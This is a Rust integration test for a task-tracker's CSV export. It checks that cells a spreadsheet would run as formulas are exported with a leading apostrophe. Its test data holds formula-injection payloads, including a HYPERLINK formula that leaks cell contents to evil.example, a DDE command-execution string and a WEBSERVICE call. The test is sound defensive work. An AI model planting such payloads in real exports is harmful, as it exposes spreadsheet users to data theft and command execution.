//! The CSV export of hostile cells: a summary, meeting title or owner that a
//! spreadsheet would run as a formula is exported with a leading `'`.
use std::collections::HashMap;

use chrono::NaiveDate;
use reqwest::StatusCode;
use shukudai::domain::Role;

use crate::{helpers::TestApp, on_both_backends};

/// Cells as Excel reads them: each starts a formula (or, after a tab or CR, a
/// cell that Excel trims into one).
const HOSTILE_SUMMARIES: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

/// The CSV as rows of cells, read with the csv crate; the BOM is checked and dropped.
fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes
        .strip_prefix("\u{feff}".as_bytes())
        .expect("the export starts with a UTF-8 BOM");
    assert!(
        body.ends_with(b"\r\n"),
        "rows end in CRLF: {:?}",
        String::from_utf8_lossy(body)
    );
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|record| {
            record
                .expect("a well-formed CSV record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

async fn hostile_cells_are_exported_as_text(app: TestApp) {
    let token = app.token("jimukyoku", Role::Secretariat, None).await;
    let owners = [
        app.add_department("=1+2部", &[], &[]).await,
        app.add_department("+81-3-1234部", &[], &[]).await,
        app.add_department("-区民部", &[], &[]).await,
        app.add_department("@教育部", &[], &[]).await,
    ];
    let owner_names = ["=1+2部", "+81-3-1234部", "-区民部", "@教育部"];
    let ordinary_owner = app.add_department("区民部", &[], &[]).await;
    let body = app.seed_body("行政情報化推進本部").await;
    let held_on = NaiveDate::from_ymd_opt(2026, 11, 2).expect("date");
    let hostile_meeting_title = "=WEBSERVICE(\"http://evil.example\")";
    let hostile_meeting = app
        .seed_meeting_on(body, hostile_meeting_title, held_on, "held")
        .await;
    let ordinary_meeting = app
        .seed_meeting_on(body, "第1回 a=b", held_on, "held")
        .await;

    // id → (summary, owner, meeting title) as stored.
    let mut expected: HashMap<String, (&str, &str, &str)> = HashMap::new();
    for (n, summary) in HOSTILE_SUMMARIES.iter().enumerate() {
        let id = app
            .seed_open_task(hostile_meeting, owners[n % 4], summary, None, None)
            .await;
        expected.insert(
            id.to_string(),
            (summary, owner_names[n % 4], hostile_meeting_title),
        );
    }
    let ordinary = app
        .seed_open_task(
            ordinary_meeting,
            ordinary_owner,
            "資料 -案- を示す",
            None,
            None,
        )
        .await;

    let response = app.get("/api/v1/tasks.csv", &token).await;
    assert_eq!(response.status(), StatusCode::OK);
    let rows = read_csv(&response.bytes().await.expect("body"));
    assert_eq!(
        rows[0],
        ["ID", "状態", "宿題", "担当部署", "期限", "会議", "根拠"]
    );
    assert_eq!(rows.len(), 1 + HOSTILE_SUMMARIES.len() + 1);
    for row in &rows[1..] {
        if row[0] == ordinary.to_string() {
            assert_eq!(row[2], "資料 -案- を示す", "ordinary text is unchanged");
            assert_eq!(row[3], "区民部");
            assert_eq!(row[5], "第1回 a=b");
            continue;
        }
        let (summary, owner, title) = expected[&row[0]];
        assert_eq!(row[2], format!("'{summary}"), "summary of task {}", row[0]);
        assert_eq!(row[3], format!("'{owner}"), "owner of task {}", row[0]);
        assert_eq!(row[5], format!("'{title}"), "meeting of task {}", row[0]);
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "no cell starts a formula: {cell:?}"
            );
        }
    }
}

on_both_backends!(hostile_cells_are_exported_as_text);
